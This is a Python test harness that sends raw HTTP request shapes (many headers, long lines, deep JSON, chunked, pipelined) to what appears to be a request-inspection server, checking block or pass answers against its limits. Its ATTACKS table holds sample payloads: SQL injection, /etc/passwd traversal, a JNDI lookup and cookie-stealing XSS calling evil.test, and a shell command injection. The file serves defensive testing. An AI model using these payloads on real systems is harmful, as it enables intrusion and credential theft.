#!/usr/bin/env python3
"""shapes.py -- request shapes an attacker would try, built from data files, sent raw to a server.

Each case file (tests/node/shapes/*.json) describes one shape: where the attack goes and what
surrounds it (many parameters, headers, cookies, long lines, deep JSON, multipart parts, chunked,
slow or pipelined sending, Expect: 100-continue, header case and duplicates). Every shape is sent
twice, with the attack and with a harmless value in its place. The expected answer is worked out
from the bytes sent and the server's limits: 403 when the attack lies within what the limits let
the server analyse (or when the request is past a limit and the policy is `block`), else 200; the
answer must name exactly the limits the request went past.

  shapes.py run PORT LIMITS.json POLICY CASE.json...      one line per check, then "N passed, N failed"
  shapes.py sweep PORT LIMITS.json POLICY CASE.json...   every case over a grid of sizes; prints the score

check_serve() runs the same shapes against `bundlegen serve` (tests/serve/serve_test.py), where
"right" is an answer in time with a JSON body: the route's own status within its head limit, 431
past it.
"""
import itertools, json, socket, sys, time

ATTACKS = {   # location -> (attack value, harmless value of the same kind)
    "query": ("1%27%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--", "blue%20running%20shoes"),
    "path": ("/files/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/files/reports%2F2026%2Fsummary.pdf"),
    "header": ("${jndi:ldap://evil.test/a}", "Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0"),
    "cookie": ("<script>alert(document.cookie)</script>", "dark-mode%3Don%3Blang%3Den"),
    "json": ("<script>document.location='http://evil.test/?c='+document.cookie</script>", "please deliver before noon"),
    "form": ("127.0.0.1;cat /etc/passwd", "127.0.0.1"),
    "multipart": ("1' UNION SELECT username,password FROM users--", "quarterly report, final version"),
}
JSON_DEPTH = 64             # JSON nesting the node walks
REPLY_LIMIT = 10.0          # seconds a verdict may take before the check fails (a hang is a failure)


def filler(i, n):
    """A harmless value of n bytes, different per i."""
    base = f"v{i}x"
    return (base * (n // len(base) + 1))[:n] if n > 0 else ""


def cased(name, how):
    if how == "lower":
        return name.lower()
    if how == "upper":
        return name.upper()
    if how == "mixed":
        return "".join(c.upper() if k % 2 else c.lower() for k, c in enumerate(name))
    return name


EXACT = {   # case key -> (pad knob, measure of the built request) for shapes of an exact size
    "line_bytes": ("line", lambda lines, body: len(lines[0])),
    "header_line_bytes": ("hline", lambda lines, body: max(len(l) for l in lines[1:] if l.lower().startswith("x-api-version:"))),
    "header_size": ("headers", lambda lines, body: sum(len(l) + 2 for l in lines[1:])),
    "body_size": ("body", lambda lines, body: len(body)),
}


def build(case, attack):
    """Returns (head_parts, body, spans): the request line and header lines (without CRLF), the body
    bytes as sent before framing, and where the payload sits. With an EXACT key, a pad is grown
    until the measure is exactly the size asked."""
    pads = {}
    for key, (knob, measure) in EXACT.items():
        if key in case:
            pads[knob] = 1
            n1 = measure(*build_padded(case, attack, pads)[:2])
            pads[knob] = 1 + case[key] - n1
            if pads[knob] < 1:
                raise ValueError(f"{case['shape']}: {key} {case[key]} is too small for this shape")
    return build_padded(case, attack, pads)


def build_padded(case, attack, pads):
    where = case["attack_in"]
    value = ATTACKS[where][0 if attack else 1]
    if "hline" in pads:
        value = filler(1, pads["hline"]) + " " + value
    method = case.get("method", "POST" if where in ("json", "form", "multipart") or case.get("body_bytes") else "GET")
    spans = {}
    path = case.get("path", "/search")
    if case.get("path_bytes"):
        seg, k = [], 0
        while len(path) + sum(len(s) + 1 for s in seg) < case["path_bytes"]:
            seg.append(f"seg{k}")
            k += 1
        path = (path.rstrip("/") + "/" + "/".join(seg))[: case["path_bytes"]]
    if where == "path":
        spans["line"] = (len(method) + 1 + len(path), len(method) + 1 + len(path) + len(value))
        path += value
    params = [f"p{i}={filler(i, case.get('param_bytes', 4))}" for i in range(case.get("params_before", 0))]
    if "line" in pads:
        params.insert(0, "pad=" + filler(2, pads["line"]))
    if where == "query":
        params.append("q=" + value)
    params += [f"a{i}={filler(i, case.get('param_bytes', 4))}" for i in range(case.get("params_after", 0))]
    target = path + ("?" + "&".join(params) if params else "")
    if where == "query":
        start = len(method) + 1 + target.index("q=" + value) + 2
        spans["line"] = (start, start + len(value))
        spans["param"] = len(params) - case.get("params_after", 0)
    lines = [f"{method} {target} HTTP/1.1"]
    hc = case.get("header_case")
    hdrs = [("Host", "api.example.com"), ("X-Forwarded-Host", "api.example.com"),
            ("X-Connector", "shapes/1.0.0"), ("X-Connector-Mode", "inline")]
    hdrs += [tuple(h) for h in case.get("extra_headers", [])]
    if "headers" in pads:
        hdrs.append(("X-Pad", filler(4, pads["headers"])))
    for i in range(case.get("headers", 0)):
        hdrs.append((f"X-Filler-{i}", filler(i, case.get("header_bytes", 16))))
    if case.get("long_header"):
        hdrs.append(("X-Long", filler(7, case["long_header"])))
    cookies = [f"c{i}={filler(i, case.get('cookie_bytes', 12))}" for i in range(case.get("cookies", 0))]
    if where == "cookie":
        cookies.insert(case.get("cookie_at", len(cookies)), "pref=" + value)
    if cookies:
        hdrs.append(("Cookie", "; ".join(cookies)))
    if where == "header":
        for k in range(case.get("duplicates", 0)):
            hdrs.append(("X-Api-Version", f"2026-0{k + 1}-01"))
        hdrs.append(("X-Api-Version", value))
        spans["header"] = len(hdrs) - 1
    for k in range(case.get("trailing_headers", 0)):
        hdrs.append((f"X-After-{k}", filler(k, case.get("header_bytes", 16))))
    # the smallest header lines and cookies there are: each costs the HTTP layer a record
    hdrs += [("t", "")] * case.get("tiny_headers", 0)
    hdrs += [("Cookie", "a;" * case.get("tiny_cookies", 4000))] * case.get("tiny_cookie_lines", 0)
    body = b""
    ctype = None
    if where == "json" or case.get("json_depth"):
        depth = case.get("json_depth", 1)
        inner = json.dumps({"comment": value if where == "json" else "hello"})
        doc = inner
        for d in range(depth - 1):
            doc = '{"level%d":%s}' % (d, doc)
        pad = case.get("body_bytes", 0)
        if pad:
            doc = '{"pad":"%s","doc":%s}' % (filler(3, pad), doc) if case.get("pad_first", True) else \
                  '{"doc":%s,"pad":"%s"}' % (doc, filler(3, pad))
        body, ctype = doc.encode(), "application/json"
        if where == "json":
            i = body.index(json.dumps(value).encode())
            spans["body"] = (i, i + len(json.dumps(value)))
    elif where == "form":
        fields = [f"f{i}={filler(i, 8)}" for i in range(case.get("form_fields", 0))]
        fields.append("host=" + value)
        if "body" in pads:
            fields.insert(0, "pad=" + filler(5, pads["body"]))
        if case.get("body_bytes"):
            fields.insert(0 if case.get("pad_first", True) else len(fields), "pad=" + filler(5, case["body_bytes"]))
        body, ctype = "&".join(fields).encode(), "application/x-www-form-urlencoded"
        i = body.index(("host=" + value).encode())
        spans["body"] = (i, i + len("host=" + value))
    elif where == "multipart":
        b = "shapesboundary7MA4YWxkTrZu0gW"
        parts = [f'--{b}\r\nContent-Disposition: form-data; name="f{i}"\r\n\r\n{filler(i, 10)}\r\n'
                 for i in range(case.get("multipart_parts", 0))]
        parts.append(f'--{b}\r\nContent-Disposition: form-data; name="note"\r\n\r\n{value}\r\n')
        body = ("".join(parts) + f"--{b}--\r\n").encode()
        ctype = f"multipart/form-data; boundary={b}"
        i = body.index(value.encode())
        spans["body"] = (i, i + len(value))
    elif case.get("body_bytes"):
        body, ctype = filler(9, case["body_bytes"]).encode(), "text/plain"
    if ctype:
        hdrs.append(("Content-Type", ctype))
    chunked = case.get("chunked")
    if method == "POST" or body:
        hdrs.append(("Transfer-Encoding", "chunked") if chunked else ("Content-Length", str(len(body))))
    if case.get("expect_continue"):
        hdrs.append(("Expect", "100-continue"))
    lines += [f"{cased(n, hc)}: {v}" for n, v in hdrs]
    return lines, body, spans


def frame(case, lines, body):
    """The bytes to send, as a list of (bytes, pause-after) pieces."""
    head = ("\r\n".join(lines) + "\r\n\r\n").encode()
    if case.get("chunked"):
        n = case["chunked"]
        body = b"".join(b"%x\r\n%s\r\n" % (len(body[i:i + n]), body[i:i + n]) for i in range(0, len(body), n)) + b"0\r\n\r\n"
    slow = case.get("slow")
    if case.get("expect_continue"):
        return [(head, "100"), (body, 0)]
    if slow and body:
        k = max(1, len(body) // slow["pieces"])
        return [(head, slow["delay"])] + [(body[i:i + k], slow["delay"]) for i in range(0, len(body), k)]
    return [(head + body, 0)]


def expected(case, lim, policy, lines, body, spans, attack):
    """(status, limits) the server must answer for these bytes."""
    over = []
    if len(lines[0]) > lim["max_request_line"]:
        over.append("request_line")
    hl = [len(l) for l in lines[1:]]
    if any(n > lim["max_header_line"] for n in hl):
        over.append("header_line")
    total, fit = 0, len(hl)
    for i, n in enumerate(hl):
        n = min(n, lim["max_header_line"])
        if total + n + 2 > lim["max_header_size"]:
            fit = i
            over.append("headers")
            break
        total += n + 2
    query = lines[0].split(" ")[1].partition("?")[2]
    if query and lim["max_params"] and query.count("&") + 1 > lim["max_params"]:
        over.append("params")
    if len(body) > lim["max_body_size"]:
        over.append("body")
    # JSON objects are walked 64 levels deep (node/decode.c); the innermost one sits at depth - 1,
    # one more under the pad wrapper
    json_cut = case.get("json_depth", 1) - 1 + (1 if case.get("body_bytes") else 0) >= JSON_DEPTH \
        and len(body) <= lim["max_body_size"]
    if json_cut:
        over.append("decode_depth")
    order = ["request_line", "header_line", "headers", "params", "body", "decode_depth"]
    over = [o for o in order if o in over]
    if not attack:
        return {403 if over and policy == "block" else 200}, over
    # 1: the payload lies wholly in what is analysed; 0: wholly past the cut; None: cut through it,
    # when what is left may still read as an attack or not (either answer is right)
    seen = 1
    if "line" in spans:
        cut = lim["max_request_line"] - len(lines[0].split(" ")[2]) - 1
        seen = within(spans["line"], cut)
        if "param" in spans and lim["max_params"] and spans["param"] > lim["max_params"]:
            seen = 0
    if "header" in spans:
        i = spans["header"]                       # index among the header lines
        line = lines[1 + i]
        seen = 0 if i >= fit else within((len(line) - len(ATTACKS["header"][0]), len(line)), lim["max_header_line"])
    if case["attack_in"] == "cookie":
        ci = next(i for i, l in enumerate(lines[1:]) if l.lower().startswith("cookie:"))
        line = lines[1 + ci]
        at = line.index(ATTACKS["cookie"][0])
        seen = 0 if ci >= fit else within((at, at + len(ATTACKS["cookie"][0])), lim["max_header_line"])
    if "body" in spans:
        seen = 0 if json_cut else within(spans["body"], lim["max_body_size"])
    if over and policy == "block":
        return {403}, over
    return ({403} if seen == 1 else {200} if seen == 0 else {200, 403}), over


def within(span, cut):
    return 1 if span[1] <= cut else 0 if span[0] >= cut else None




def read_response(sock, deadline):
    """One response: (status, body dict or None). Skips 1xx. (0, None) on close or timeout."""
    data = b""
    while True:
        while b"\r\n\r\n" not in data:
            sock.settimeout(max(0.05, deadline - time.time()))
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, OSError):
                return 0, None, b""
            if not chunk:
                return 0, None, b""
            data += chunk
        head, _, rest = data.partition(b"\r\n\r\n")
        status = int(head.split(b" ", 2)[1])
        if 100 <= status < 200:
            data = rest
            return_interim = status
            if not data:
                return return_interim, None, b""
            continue
        length = 0
        for line in head.split(b"\r\n")[1:]:
            k, _, v = line.partition(b":")
            if k.strip().lower() == b"content-length":
                length = int(v)
        while len(rest) < length:
            sock.settimeout(max(0.05, deadline - time.time()))
            try:
                chunk = sock.recv(65536)
            except (socket.timeout, OSError):
                return 0, None, b""
            if not chunk:
                break
            rest += chunk
        try:
            doc = json.loads(rest[:length]) if length else None
        except ValueError:
            doc = None
        return status, doc, rest[length:]


def exchange(port, case, pieces):
    """Sends the pieces (preceded by `pipelined` harmless requests on the same write); returns the
    list of (status, doc) answers and the seconds taken."""
    sock = socket.create_connection(("127.0.0.1", port), timeout=REPLY_LIMIT)
    start = time.time()
    deadline = start + REPLY_LIMIT
    pre = b"".join(b"GET %s?n=%d HTTP/1.1\r\nHost: api.example.com\r\n%s\r\n" %
                   (case.get("ping", "/ping").encode(), i, "".join(f"{n}: {v}\r\n" for n, v in case.get("extra_headers", [])).encode())
                   for i in range(case.get("pipelined", 0)))
    answers, rest = [], b""
    try:
        for i, (data, pause) in enumerate(pieces):
            sock.sendall((pre if i == 0 else b"") + data)
            if pause == "100":          # wait for the interim answer, as a client with Expect does
                st, _, rest = read_response_interim(sock, deadline, case.get("pipelined", 0), answers)
                if st != 100:
                    answers.append((st, None))
                    return answers, time.time() - start
            elif pause:
                time.sleep(pause)
        for _ in range(case.get("pipelined", 0) + 1 - len(answers)):
            st, doc, rest = read_buffered(sock, deadline, rest)
            answers.append((st, doc))
            if not st:
                break
    finally:
        sock.close()
    return answers, time.time() - start


def read_buffered(sock, deadline, rest):
    if rest:
        class Pre:
            def __init__(self, s, b):
                self.s, self.b = s, b
            def recv(self, n):
                if self.b:
                    b, self.b = self.b, b""
                    return b
                return self.s.recv(n)
            def settimeout(self, t):
                self.s.settimeout(t)
        return read_response(Pre(sock, rest), deadline)
    return read_response(sock, deadline)


def read_response_interim(sock, deadline, npipelined, answers):
    """Reads the answers to pipelined requests, then the 100 Continue."""
    rest = b""
    for _ in range(npipelined):
        st, doc, rest = read_buffered(sock, deadline, rest)
        answers.append((st, doc))
    return read_buffered(sock, deadline, rest)


def send_case(port, case, lines, body):
    """Sends one shape: (status, JSON body or None, seconds, complaint about the pipelined answers
    before it or "")."""
    answers, secs = exchange(port, case, frame(case, lines, body))
    got = answers[-1][0] if answers else 0
    doc = answers[-1][1] if answers else None
    pre = [a[0] for a in answers[:-1]]
    return got, doc, secs, f"pipelined requests before it answered {pre}" if any(st != 200 for st in pre) else ""


def check_case(port, lim, policy, case, attack):
    """(ok, message) for one shape with or without its attack."""
    lines, body, spans = build(case, attack)
    want, over = expected(case, lim, policy, lines, body, spans, attack)
    if "expect" in case:                        # the case states the answer: it must agree
        e = case["expect"]["attack" if attack else "benign"]
        e = {403} if over and policy == "block" else set(e if isinstance(e, list) else [e])
        if e != want:
            return False, f"case says {sorted(e)}, the limits say {sorted(want)}"
        if "limits" in case["expect"] and case["expect"]["limits"] != over:
            return False, f"case says limits {case['expect']['limits']}, the bytes give {over}"
    got, doc, secs, pre = send_case(port, case, lines, body)
    if pre:
        return False, pre
    if got not in want:
        return False, f"expected {' or '.join(map(str, sorted(want)))}, got {got or 'no answer'} after {secs:.1f}s {json.dumps(doc)[:300]}"
    glim = (doc or {}).get("limits", [])
    if glim != over:
        return False, f"expected limits {over}, answer says {glim}"
    return True, f"{got} in {secs:.2f}s" + (f", limits {over}" if over else "")


def check_serve(port, head_limit, headers, case, attack):
    """(ok, message) for one shape sent to bundlegen serve as GET (or POST) /v1/platforms: the head
    (request line and "Name: value" lines, each with CRLF) within head_limit gets 200 (405 for a
    POST, 404 for a path that is no route), past it a JSON 431; every answer in time, with JSON."""
    c = dict(case, path="/v1/platforms", ping="/v1/platforms", extra_headers=[list(h) for h in headers.items()])
    lines, body, _ = build(c, attack)
    head = sum(len(l) + 2 for l in lines)
    method = lines[0].split(" ")[0]
    want = 431 if head > head_limit else 404 if c["attack_in"] == "path" else 405 if method == "POST" else 200
    got, doc, secs, pre = send_case(port, c, lines, body)
    if pre:
        return False, pre
    if got != want or doc is None:
        return False, f"expected {want} with JSON, got {got or 'no answer'} after {secs:.1f}s {json.dumps(doc)[:200]}"
    return True, f"{got} in {secs:.2f}s, head {head} bytes"


def run(port, lim, policy, files):
    passed = failed = 0
    for f in files:
        case = json.load(open(f))
        for attack in (True, False):
            ok, msg = check_case(port, lim, policy, case, attack)
            name = f"{case['shape']} [{'attack' if attack else 'benign'}, oversize={policy}]"
            print(("ok   " if ok else "FAIL ") + name + ": " + msg, flush=True)
            passed, failed = passed + ok, failed + (not ok)
    return passed, failed


GRID = {   # the sweep: each case's size knobs times these factors
    "params_before": [0, 10, 240, 1000, 3000], "params_after": [0, 240, 1000, 3000],
    "headers": [0, 50, 500, 2000], "cookies": [0, 100, 600], "long_header": [0, 7000, 8200, 20000],
    "path_bytes": [0, 4000, 8300], "json_depth": [1, 20, 200], "multipart_parts": [0, 100, 1000],
    "body_bytes": [0, 500000, 1100000], "chunked": [0, 1, 1000], "pipelined": [0, 3],
}


def sweep(port, lim, policy, files, budget):
    right = total = skipped = 0
    wrong = []
    start = time.time()
    for f in files:
        case = json.load(open(f))
        knobs = [k for k in GRID if k in case] or ["pipelined"]
        for values in itertools.product(*(GRID[k] for k in knobs)):
            c = dict(case)
            c.pop("expect", None)
            c.update({k: v for k, v in zip(knobs, values) if v or k in case})
            for k in knobs:
                if not c.get(k):
                    c.pop(k, None)
            for attack in (True, False):
                if time.time() - start > budget:
                    break
                try:
                    ok, msg = check_case(port, lim, policy, c, attack)
                except ValueError:          # an exact-size shape that this grid point overfills
                    skipped += 1
                    continue
                total += 1
                right += ok
                if not ok and len(wrong) < 20:
                    wrong.append(f"{case['shape']} {dict(zip(knobs, values))} attack={attack}: {msg}")
    for w in wrong:
        print("wrong:", w)
    print(f"shapes answered right: {right} of {total} (oversize={policy}; {skipped} grid points cannot be built)")
    return right, total


if __name__ == "__main__":
    cmd, port, limfile, policy, *files = sys.argv[1:]
    lim = json.load(open(limfile))
    if cmd == "run":
        p, f = run(int(port), lim, policy, files)
        print(f"{p} passed, {f} failed")
        sys.exit(1 if f else 0)
    r, t = sweep(int(port), lim, policy, files, float(lim.get("sweep_seconds", 600)))
    sys.exit(0 if r == t else 1)
